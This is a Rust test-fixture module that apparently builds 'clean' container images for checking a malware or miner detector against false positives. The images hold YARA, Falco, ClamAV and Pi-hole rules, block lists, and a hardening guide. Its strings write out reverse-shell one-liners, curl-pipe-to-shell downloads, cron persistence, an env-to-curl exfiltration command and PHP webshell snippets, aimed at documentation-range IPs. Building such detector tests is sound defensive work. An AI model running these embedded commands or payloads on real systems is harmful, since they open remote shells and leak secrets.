//! Text that speaks of malice without being any.

use crate::group;
use crate::programs;
use crate::shape::{Planted, Shape, clean};
use test_support::standin;
use test_support::wallet::monero;

fn web() -> Planted {
    Planted::debian().cmd(&["python3", "-m", "http.server"])
}

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "texts",
        vec![
            clean("rules of a run-time guard", |_| {
                let hosts: String =
                    (0..60).map(|n| format!("    \"pool{n}.example\", \"xmr-eu{n}.example\",\n")).collect();
                web().file("etc/falco/falco_rules.yaml", format!("- list: miner_domains\n  items: [\n{hosts}  ]\n- macro: net_miner_pool\n  condition: (fd.sip.name in (miner_domains))\n- rule: Detect crypto miners using the Stratum protocol\n  condition: spawned_process and (proc.cmdline contains \"stratum+tcp\" or proc.cmdline contains \"stratum2+tcp\")\n"))
            }),
            clean("rules of a scanner", |_| {
                web().file("usr/share/yara/miners.yar", "rule xmrig_strings {\n  strings:\n    $a = \"donate.v2.xmrig.com\"\n    $b = \"stratum+tcp://\"\n    $c = \"bash -i >& /dev/tcp/\"\n    $d = \"cpu-max-threads-hint\"\n  condition: 2 of them\n}\n")
            }),
            clean("rules for YARA by the hundred, and the scanner that reads them", |_| {
                let rule = |name: &str, texts: &[&str]| {
                    let strings: String = texts
                        .iter()
                        .enumerate()
                        .map(|(n, text)| format!("    $s{n} = \"{text}\" ascii wide\n"))
                        .collect();
                    format!(
                        "rule {name} {{\n  meta:\n    author = \"someone\"\n  strings:\n{strings}  condition:\n    2 of them\n}}\n"
                    )
                };
                let many: String = (0..300)
                    .map(|n| {
                        rule(
                            &format!("MAL_{n}"),
                            &[&format!("pool{n}.example:3333"), "stratum+tcp://", "cmd.exe /c"],
                        )
                    })
                    .collect();
                Planted::debian()
                    .script("usr/local/bin/yara", standin::program("an honest scanner"))
                    .file(
                        "opt/rules/index.yar",
                        "include \"./malware/MINER.yar\"\ninclude \"./webshells/PHP.yar\"\n",
                    )
                    .file("opt/rules/malware/MINER.yar", many)
                    .file(
                        "opt/rules/malware/LINUX.yar",
                        rule(
                            "Linux_Shells",
                            &[
                                "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
                                "curl http://198.51.100.1/x | sh",
                                "/etc/ld.so.preload",
                                "readdir64",
                                "nr_hugepages",
                                "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
                            ],
                        ),
                    )
                    .file(
                        "opt/rules/webshells/PHP.yar",
                        rule(
                            "Php_Shell",
                            &[
                                "<?php @eval($_POST['x']); ?>",
                                "eval(gzinflate(base64_decode(",
                                "system($_GET['cmd'])",
                            ],
                        ),
                    )
                    .file("opt/rules/malware/wallets.yar", rule("Wallets", &[&monero(21), &monero(22)]))
                    .entry(&["yara", "-r", "-w", "/opt/rules/index.yar"])
                    .cmd(&["/data"])
            }),
            clean("virus scanner that updates itself", |_| {
                Planted::debian()
                    .script("usr/sbin/clamd", standin::program("an honest scanner"))
                    .script("usr/bin/freshclam", standin::program("an honest updater"))
                    .file("var/lib/clamav/main.cvd", b"ClamAV-VDB:16 Sep 2021 08-32 -0400:62:6647427:90:\0\x1f\x8b\x08\0\0\0\0\0")
                    .script("init-scanner", "#!/bin/sh\nset -eu\nif [ ! -f /var/lib/clamav/main.cvd ]; then\n  freshclam --foreground --stdout\nfi\nfreshclam --checks=\"${FRESHCLAM_CHECKS:-1}\" --daemon --foreground --stdout --user=clamav &\nclamd --foreground &\nwhile [ ! -S /run/clamav/clamd.sock ]; do sleep 1; done\nexec tail -f /dev/null\n")
                    .entry(&["/init-scanner"])
            }),
            clean("list of names to block", |_| {
                let hosts: String = (0..400).map(|n| format!("0.0.0.0 pool{n}.example\n")).collect();
                web().file("etc/pihole/gravity.list", format!("# miners\n0.0.0.0 xmr.nanopool.org\n0.0.0.0 pool.supportxmr.com\n0.0.0.0 pool.minexmr.com\n{hosts}"))
            }),
            clean("node of a currency, with its donations", |_| {
                Planted::debian()
                    .script("usr/local/bin/coind", programs::node())
                    .file(
                        "usr/share/doc/coind/README.md",
                        format!("# Coin\n\nDonations are welcome: {}\n", monero(9)),
                    )
                    .entry(&["coind", "--non-interactive", "--rpc-bind-ip", "0.0.0.0"])
            }),
            clean("wallets in a test", |_| {
                web().file("srv/wallet/tests/test_address.py", format!("from wallet import parse\n\ndef test_parse():\n    assert parse('{}').ok\n    assert parse('{}').ok\n", monero(10), monero(11)))
            }),
            clean("payloads of a test list", |_| {
                web().file("usr/share/wordlists/payloads.txt", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1\nnc -e /bin/sh 10.0.0.1 1234\npython -c 'import socket,subprocess,os;s=socket.socket()'\nphp -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n".repeat(20))
            }),
            clean("documentation of an attack", |_| {
                web().file("usr/share/doc/hardening/guide.md", "## What attackers do\n\n```\ncurl http://198.51.100.5/x | sh\necho '* * * * * root /tmp/x' > /etc/cron.d/x\nenv | base64 | curl -d @- http://198.51.100.5/\n```\n")
            }),
            clean("pools that are none", |_| {
                web().file("srv/application.json", "{\"pools\": [{\"name\": \"main\", \"url\": \"jdbc:postgresql://db:5432/app\", \"user\": \"app\", \"password\": \"${DB_PASSWORD}\", \"maximumPoolSize\": 10}]}\n")
                .file("etc/pgbouncer/pools.json", "{\"pools\": [{\"url\": \"db:6432\", \"user\": \"app\", \"pool_mode\": \"transaction\"}], \"print-time\": 60}\n")
            }),
            clean("test suite of a shell", |_| {
                web().file("usr/local/share/bats/test/eval.sh", "#!/bin/bash\neval \"$(echo 'echo ok' | base64 -d 2>/dev/null || echo echo ok)\"\nprintf '\\x6f\\x6b\\n'\n")
            }),
            clean("signatures of a virus scanner", |_| {
                let lines: String = (0..200_u32)
                    .map(|n| {
                        format!(
                            "{}:{}:Unix.Trojan.Sample-{n}\n",
                            test_support::md5_hex(&n.to_le_bytes()),
                            1000 + n
                        )
                    })
                    .collect();
                web().file("var/lib/clamav/main.hdb", lines)
            }),
            clean("language pack with everything", |_| {
                let text: String = (0..3000)
                    .map(|n| format!("\"key{n}\": \"miner pool wallet shell reverse {n}\",\n"))
                    .collect();
                web().file("srv/locale/en.json", format!("{{\n{text}\"end\": \"\"\n}}\n"))
            }),
            clean("addresses of keys in a trust store", |_| {
                web().file(
                    "etc/ssl/certs/ca-certificates.crt",
                    format!(
                        "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n",
                        "MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n".repeat(40)
                    ),
                )
            }),
        ],
    )
}
